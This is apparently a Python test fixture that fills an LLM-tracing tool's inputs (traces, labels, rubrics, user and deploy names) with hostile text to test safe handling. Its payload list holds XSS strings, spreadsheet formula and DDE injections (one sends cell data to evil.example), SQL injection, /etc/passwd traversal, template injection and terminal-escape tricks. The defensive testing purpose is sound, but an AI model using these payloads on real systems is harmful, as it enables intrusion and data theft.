"""A home full of text that tries to do harm, in every place that a trace, a label or a person's words can put text."""

import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.torture.shell import LABELS_HEADER, Said, Shell

EVIL = "evil.example"
"""The host that every attack names; nobody may ask it for anything."""
TRICKS = (
    "<script>window.harmed = 1</script>",
    f"<img src=https://{EVIL}/i.png onerror='window.harmed = 1'>",
    f"<svg onload='window.harmed = 1'><image href='https://{EVIL}/s.png'/></svg>",
    f"<iframe src='https://{EVIL}/'></iframe>",
    f"<style>@import url('https://{EVIL}/a.css'); * {{ background: url(https://{EVIL}/b.png) }}</style>",
    f"<link rel=stylesheet href='//{EVIL}/c.css'><meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<a href='https://{EVIL}/' target=_top>a link</a>",
    f"![a picture](https://{EVIL}/p.png) [a link](https://{EVIL}/) <https://{EVIL}/>",
    "[a script](javascript:window.harmed=1) <a href='javascript:window.harmed=1'>b</a>",
    f"[ref]: https://{EVIL}/ref\n[ref]\n\n# heading\n| a | b |\n|---|---|\n| ![x](//{EVIL}/t.png) | c |",
    f'=HYPERLINK("https://{EVIL}/?x="&A1)',
    f'  =IMPORTXML("https://{EVIL}/", "//a")',
    "\uff1dcmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+1;=1+1",
    ":red[loud] :material/delete: :smile: $\\href{https://evil.example/}{x}$ $$x^2$$",
    "\x1b]0;title\x07\x1b[31mred\x1b[2J\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "a\u202egnp.exe\u202c \u2066left\u2069 \u200b\u2060\ufeff\u00ad",
    "a\x00b\x01\x02\x7f\x85\u2028\u2029c",
    "</script></style></textarea></title>--><script>window.harmed = 1</script>",
    "{{constructor.constructor('window.harmed=1')()}} ${window.harmed=1} %(harmed)s {0.__class__}",
    f"data:text/html,<script>window.harmed=1</script> url(https://{EVIL}/u.png)",
    "'; DROP TABLE span_rows; -- \" OR 1=1 /*",
    '#set page(fill: red)\n#image("/etc/passwd") $ x $ \\input{/etc/passwd}',
    "../../../../etc/passwd\x00.png",
    "𝒽𝒶𝓇𝓂 " * 3 + "Z\u0351\u0336\u0321" * 40,
)
LONG_LINE_MIB = 10
MANY_SPANS = 10_000
DEPTH = 1_000
MONDAY = datetime(2026, 11, 9, 9, tzinfo=UTC)
_TEXTS = (
    "name", "app", "tenant", "environment", "model", "provider", "prompt_name", "prompt_version", "app_version",
    "tool_name", "agent_name", "error_type", "finish_reason", "retrieval_config", "input_text", "output_text",
    "system_text", "error_message",
)  # fmt: skip


def trick(dice: random.Random, place: str = "") -> str:
    """Two tricks or one; the first stands at the beginning, where a formula has to."""
    said = " ".join(dice.sample(TRICKS, dice.choice((1, 1, 2))))
    return f"{said} {place}" if place and dice.random() < 0.5 else said


def filled(folder: Path, dice: random.Random, *, large: bool) -> tuple[Shell, list[str]]:
    """A home of hostile traffic, labels, versions and rubrics; and what of it ended otherwise than plainly.

    `large` adds a line of 10 MB, a trace of 10,000 spans and one of depth 1,000.
    """
    shell = Shell(folder / "home")
    traffic = folder / "traffic.jsonl"
    rows = [*_traffic(dice), *_named_traces(dice)]
    if large:
        rows += [*_long(), *_many(), *_deep()]
    traffic.write_text("".join(json.dumps(row) + "\n" for row in rows))
    labels = folder / "labels.csv"
    labels.write_text(LABELS_HEADER + "".join(_labels(dice)))
    rubric = folder / "rubric.toml"
    rubric.write_text(_rubric(dice))
    done = [
        shell.run("ingest", str(traffic), "--json"),
        shell.run("labels", "import", str(labels), "--json"),
        shell.run("rubric", "add", str(rubric)),
        shell.run("sample", "weekly", "--week", "2026-W46", "--json"),
        shell.run("user", "add", "Ana", "--role", "admin"),
        shell.run("user", "add", _clean(trick(dice)), "--role", "reviewer"),
        shell.run("watch", "--json"),
        *(shell.run("deploy", f"{kind}={_clean(trick(dice))}", "--note", _clean(trick(dice)))
          for kind in ("prompt", "model", "app_version")),
    ]  # fmt: skip
    return shell, [said.words for said in done if not _is_fine(said)]


def _is_fine(said: Said) -> bool:
    return said.is_plain or (said.code == 6 and "Traceback" not in said.err)  # 6: an alert asks for action


def _clean(text: str) -> str:
    """As a shell can pass it on: no argument of a program holds a NUL."""
    return text.replace("\x00", "")


def _span(trace: str, number: int, parent: int | None = None, **said: Any) -> dict[str, Any]:
    start = MONDAY + timedelta(seconds=number / 100)
    return {
        "trace_id": trace, "span_id": f"{number + 1:016x}",
        "parent_span_id": None if parent is None else f"{parent + 1:016x}",
        "start_ts": start.isoformat(), "end_ts": (start + timedelta(milliseconds=9)).isoformat(), **said,
    }  # fmt: skip


def _traffic(dice: random.Random) -> Iterator[dict[str, Any]]:
    """A fortnight of traces whose every name is a trick; names come again, so that figures have something to count."""
    names = {column: [trick(dice, column) for _ in range(3)] for column in _TEXTS}
    for number in range(60):
        at = MONDAY - timedelta(days=number % 14, minutes=number)
        for place, kind in enumerate(("chain", "llm", "tool", "retriever", "evaluator")):
            start = at + timedelta(seconds=place)
            yield {
                **{column: dice.choice(values) for column, values in names.items()},
                "trace_id": f"{number + 1_000:032x}", "span_id": f"{place + 1:016x}",
                "parent_span_id": f"{1:016x}" if place else None, "kind": kind, "session_id": f"s{number // 3}",
                "start_ts": start.isoformat(),
                "end_ts": (start + timedelta(milliseconds=dice.randint(20, 4_000))).isoformat(),
                "status": "error" if dice.random() < 0.2 else "ok", "tok_in": dice.randint(1, 900), "tok_out": 9,
                "documents": [_document(dice)] if kind == "retriever" else [],
            }  # fmt: skip
        yield _score(f"{number + 1_000:032x}", dice, at)


def _named_traces(dice: random.Random) -> Iterator[dict[str, Any]]:
    """One trace that holds every trick in every text, with messages, tools, attributes, events and links."""
    for number, one in enumerate(TRICKS):
        messages = [
            {"role": one, "parts": [{"type": "text", "text": one}, {"type": "image", "url": f"https://{EVIL}/m.png"}]}
        ]
        yield _span(
            HOSTILE_TRACE, number, 0 if number else None, kind="llm", session_id="s-hostile", status="error",
            **dict.fromkeys(_TEXTS, one), messages_in=messages, messages_out=messages,
            documents=[_document(dice), _document(dice)],
            tools=[{"name": one, "description": one}], tool_args={one: one}, tool_result=f'{{"a": {json.dumps(one)}}}',
            attributes={one: one, "html": {"nested": [one]}}, events=[{"name": one, "attributes": {one: one}}],
            links=[{"trace_id": one, "span_id": one, "attributes": {"why": one}}], resource={one: one},
        )  # fmt: skip
        yield _score(HOSTILE_TRACE, dice, MONDAY)


HOSTILE_TRACE = f"{0xBAD:032x}"
LONG_TRACE = f"{0xBAD1:032x}"
MANY_TRACE = f"{0xBAD2:032x}"
DEEP_TRACE = f"{0xBAD3:032x}"


def _document(dice: random.Random) -> dict[str, Any]:
    return {"id": trick(dice), "title": trick(dice), "url": f"https://{EVIL}/{trick(dice)}", "content": trick(dice),
            "rank": 1, "score": 0.5, "metadata": {trick(dice): trick(dice)}}  # fmt: skip


def _score(trace: str, dice: random.Random, at: datetime) -> dict[str, Any]:
    return {"trace_id": trace, "name": trick(dice), "value": dice.random(), "label": trick(dice),
            "explanation": trick(dice),
            "source": "judge", "judge_name": trick(dice), "created_at": at.isoformat()}  # fmt: skip


def _long() -> Iterator[dict[str, Any]]:
    line = "<b>word</b> " * (LONG_LINE_MIB * 2**20 // 12)
    yield _span(LONG_TRACE, 0, name="long", kind="llm", input_text=line, output_text=line[:2000])


def _many() -> Iterator[dict[str, Any]]:
    for number in range(MANY_SPANS):
        yield _span(MANY_TRACE, number, (number - 1) // 9 if number else None, name=f"step {number % 50}", kind="tool")


def _deep() -> Iterator[dict[str, Any]]:
    for number in range(DEPTH):
        nested = "[" * DEPTH + "]" * DEPTH if number == 0 else '{"n": 1}'
        yield _span(
            DEEP_TRACE, number, number - 1 if number else None, name=f"deep {number}", kind="chain", input_text=nested
        )


def _labels(dice: random.Random) -> Iterator[str]:
    for number in range(20):
        comment = trick(dice).replace('"', '""').replace("\x00", "")
        yield f'{number + 1_000:032x},ana,helpfulness,{dice.randint(1, 5)},s,0.5,2026-11-12T09:00:00Z,"{comment}"\n'


def _rubric(dice: random.Random) -> str:
    def text() -> str:  # TOML's basic strings are JSON's, but for the delete character
        return json.dumps(_clean(trick(dice))[:400] or "?", ensure_ascii=False).replace("\x7f", "\\u007f")

    return f"""name = "hostile"
unit = "trace"
instructions = {text()}
good = [{text()}]
bad = [{text()}]

[[criteria]]
name = "good"
question = {text()}
scale = "category"
categories = [{text()}, {text()}, "other"]
"""
